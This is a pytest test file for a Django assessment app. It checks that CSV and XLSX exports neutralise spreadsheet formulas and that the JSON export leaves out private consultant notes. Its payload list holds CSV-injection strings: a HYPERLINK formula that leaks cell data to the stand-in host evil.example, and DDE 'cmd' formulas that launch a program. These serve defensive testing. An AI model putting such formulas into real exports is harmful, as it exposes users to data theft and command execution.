"""Exports: spreadsheet formulas are neutralised in every text cell of every CSV and XLSX,
and the JSON export leaves a consultant's private notes out."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assessment.consultants import FORMULA_STARTS, neutralise
from assessment.models import Assessment, Company, ConsultantProfile, Membership
from assessment.workflows import start_reassessment
from tests.factories import answer_all, completed_assessment

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.fixture
def advisor(client, consultant):
    ConsultantProfile.objects.create(user=consultant, name="Berta", approved=True)
    client.force_login(consultant)
    return client


def client_of(consultant, **fields) -> Company:
    company = Company.objects.create(industry="crafts", size_band="2-9", **fields)
    Membership.objects.create(company=company, user=consultant, role="consultant")
    return company


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formula_cells(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value:
                assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)


def assert_no_formula_text(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value and not is_number(value):
                assert not value.startswith(FORMULA_STARTS), value


def is_number(value: str) -> bool:
    """A number as the German CSV writes it ("-8,7") or as the English one does ("-8.7")."""
    try:
        float(value.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("payload", FORMULAS)
def test_portfolio_exports_neutralise_every_text_column(advisor, consultant, payload):
    client_of(consultant, name=payload, region=payload)
    rows = csv_rows(advisor.get(reverse("portfolio_export", args=["csv"])))
    assert rows[0][:4] == ["Unternehmen", "Branche", "Größe", "Region"]
    assert (rows[1][0], rows[1][3]) == ("'" + payload, "'" + payload)
    assert_no_formula_text(rows)
    sheet = xlsx_sheet(advisor.get(reverse("portfolio_export", args=["xlsx"])))
    in_xml = ("'" + payload).replace("\r", "\n")  # XML reads a carriage return as a newline
    assert (sheet["A2"].value, sheet["D2"].value) == (in_xml, in_xml)
    assert sheet["A2"].data_type == sheet["D2"].data_type == "s"
    assert_no_formula_cells(sheet)


def test_a_formula_typed_into_the_client_form_is_neutralised(advisor):
    payload = '=HYPERLINK("http://evil.example","Klick")'
    response = advisor.post(
        reverse("new_client"),
        {
            "industry": "crafts",
            "size_band": "2-9",
            "name": payload,
            "region": "+49 421 1234",
            "monthly_budget_eur": "100",
            "monthly_hours": "5",
        },
    )
    assert response.status_code == 302
    rows = csv_rows(advisor.get(reverse("portfolio_export", args=["csv"])))
    assert (rows[1][0], rows[1][3]) == ("'" + payload, "'+49 421 1234")
    sheet = xlsx_sheet(advisor.get(reverse("portfolio_export", args=["xlsx"])))
    assert sheet["A2"].value == "'" + payload and sheet["A2"].data_type == "s"


def test_numbers_and_dates_stay_numbers_and_dates(advisor, consultant, default_questionnaire):
    company = client_of(consultant, name="Korn", region="Bremen")
    older = completed_assessment(default_questionnaire, company=company, level=0.6)
    Assessment.objects.filter(pk=older.pk).update(
        completed_at=timezone.now() - datetime.timedelta(days=200)
    )
    completed_assessment(default_questionnaire, company=company, level=0.1)
    sheet = xlsx_sheet(advisor.get(reverse("portfolio_export", args=["xlsx"])))
    header = [cell.value for cell in sheet[1]]
    change = sheet.cell(row=2, column=header.index("Veränderung") + 1)
    assert change.data_type == "n" and change.value < 0  # a fall, not a text "'-…"
    assert isinstance(
        sheet.cell(row=2, column=header.index("Letzter Check") + 1).value, datetime.datetime
    )
    rows = csv_rows(advisor.get(reverse("portfolio_export", args=["csv"])))
    assert float(rows[1][header.index("Veränderung")].replace(",", ".")) < 0


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_history_exports_hold_no_formula(advisor, consultant, default_questionnaire, file_format):
    company = client_of(consultant, name="=1+1", region="@x")
    completed_assessment(default_questionnaire, company=company, level=0.2)
    completed_assessment(default_questionnaire, company=company, level=0.7)
    response = advisor.get(reverse("company_export", args=[company.pk, file_format]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    if file_format == "csv":
        rows = csv_rows(response)
        assert len(rows) == 3
        assert_no_formula_text(rows)
    else:
        sheet = xlsx_sheet(response)
        assert sheet.max_row == 3
        assert_no_formula_cells(sheet)


@given(st.text(max_size=40))
def test_no_neutralised_text_starts_like_a_formula(text):
    value = neutralise(text)
    if value != text:
        assert value == "'" + text
    elif value:
        assert not value.startswith(FORMULA_STARTS) and ord(value[0]) >= 32


def test_a_private_note_stays_out_of_the_json_export(
    client, consultant, owner, small_questionnaire
):
    ConsultantProfile.objects.create(user=consultant, name="Berta", approved=True)
    company = client_of(consultant, name="Korn")
    Membership.objects.create(company=company, user=owner)
    assessment = start_reassessment(
        company=company, user=consultant, carry_over=False, mode=Assessment.Mode.CONSULTANT
    )
    answer_all(assessment)
    first, second = assessment.questionnaire.content().dimensions[0].question_list[:2]
    advisor = Client()
    advisor.force_login(consultant)
    save = reverse("save_answer", args=[assessment.public_id])
    for question, note, private in ((first, "Chefin zögert", "1"), (second, "Liste da", "")):
        data = {"question": question.key, "option": question.option_list[0].key, "note": note}
        data |= {"note_private_field": "1", "note_private": private}
        assert advisor.post(save, data).status_code == 200
    client.force_login(owner)
    for person in (client, advisor):
        exported = person.get(reverse("report_json", args=[assessment.public_id])).json()
        notes = {answer["question"]: answer["note"] for answer in exported["answers"]}
        assert notes[first.key] == "" and notes[second.key] == "Liste da"
